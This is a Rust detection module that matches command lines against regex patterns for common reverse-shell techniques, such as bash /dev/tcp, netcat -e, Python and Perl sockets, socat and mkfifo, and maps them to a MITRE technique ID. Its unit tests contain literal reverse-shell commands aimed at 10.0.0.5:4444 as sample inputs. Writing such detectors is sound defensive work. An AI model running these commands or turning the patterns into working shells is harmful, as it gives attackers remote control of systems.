//! Reverse-shell command-line heuristics (§4.5).

use once_cell::sync::Lazy;
use regex::Regex;

struct ShellPattern {
    technique: &'static str,
    pattern: &'static str,
}

static PATTERNS: Lazy<Vec<(ShellPattern, Regex)>> = Lazy::new(|| {
    let raw = [
        ShellPattern {
            technique: "bash-dev-tcp",
            pattern: r"(?i)/bin/(ba)?sh\s+-i\s*.*>\s*&?\s*/dev/tcp/",
        },
        ShellPattern {
            technique: "netcat-exec-shell",
            pattern: r"(?i)\bnc(\.exe)?\s+.*-e\s+/bin/(ba)?sh",
        },
        ShellPattern {
            technique: "python-socket-shell",
            pattern: r#"(?i)python[0-9.]*\s+-c\s+.*socket\.socket.*subprocess\.call"#,
        },
        ShellPattern {
            technique: "perl-socket-shell",
            pattern: r"(?i)perl\s+-e\s+.*socket\(.*exec\(",
        },
        ShellPattern {
            technique: "socat-tcp-exec",
            pattern: r"(?i)socat\s+.*exec:.*tcp",
        },
        ShellPattern {
            technique: "mkfifo-named-pipe-shell",
            pattern: r"(?i)mkfifo\s+\S+\s*;.*\|\s*/bin/(ba)?sh\s+-i",
        },
    ];

    raw.into_iter()
        .map(|p| {
            let regex = Regex::new(p.pattern).expect("reverse shell pattern is a fixed, tested literal");
            (p, regex)
        })
        .collect()
});

pub struct ReverseShellMatch {
    pub technique: &'static str,
}

/// MITRE technique for reverse-shell establishment via a command
/// interpreter — shared across every pattern in this table since they're
/// all instances of the same technique with different tooling.
pub const MITRE_TECHNIQUE: &str = "T1059.004";

pub fn match_command_line(cmdline: &str) -> Option<ReverseShellMatch> {
    PATTERNS.iter().find_map(|(pattern, regex)| {
        regex
            .is_match(cmdline)
            .then_some(ReverseShellMatch { technique: pattern.technique })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_bash_dev_tcp() {
        let m = match_command_line("/bin/sh -i >& /dev/tcp/10.0.0.5/4444 0>&1").unwrap();
        assert_eq!(m.technique, "bash-dev-tcp");
    }

    #[test]
    fn flags_netcat_exec() {
        let m = match_command_line("nc -e /bin/sh 10.0.0.5 4444").unwrap();
        assert_eq!(m.technique, "netcat-exec-shell");
    }

    #[test]
    fn ordinary_shell_invocation_does_not_match() {
        assert!(match_command_line("/bin/bash script.sh").is_none());
    }
}
